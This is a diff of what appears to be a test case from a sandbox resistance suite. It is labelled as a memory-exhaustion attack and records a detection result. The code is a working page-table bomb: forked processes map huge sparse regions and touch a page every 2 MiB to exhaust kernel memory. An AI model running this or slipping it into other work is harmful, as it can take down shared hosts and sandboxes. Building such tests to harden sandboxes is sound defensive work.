@@ -2,22 +2,21 @@
 # attack: 'Touches pages of nothing far apart: they take no memory, and the tables of them take all.'
 # class: 'memory, fork, disk, descriptor, output bombs'
 # sandboxes: [namespaces]
-# detected: 'q1: out of memory'
+# detected: 'The cell `import mmap`'
 # ---
 # %% before="q1"
 import mmap
 import os
 import time
 
-for _ in range(8):
+for _ in range(4):
     if os.fork() == 0:
         kept = []
         for _ in range(8):
             region = mmap.mmap(-1, 2**37, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
             region.madvise(mmap.MADV_NOHUGEPAGE)
             kept.append(region)
-            for place in range(0, len(region), 2**21):
-                region[place]
+            region[:: 2**21]
         time.sleep(5)
         os._exit(0)
 time.sleep(5)
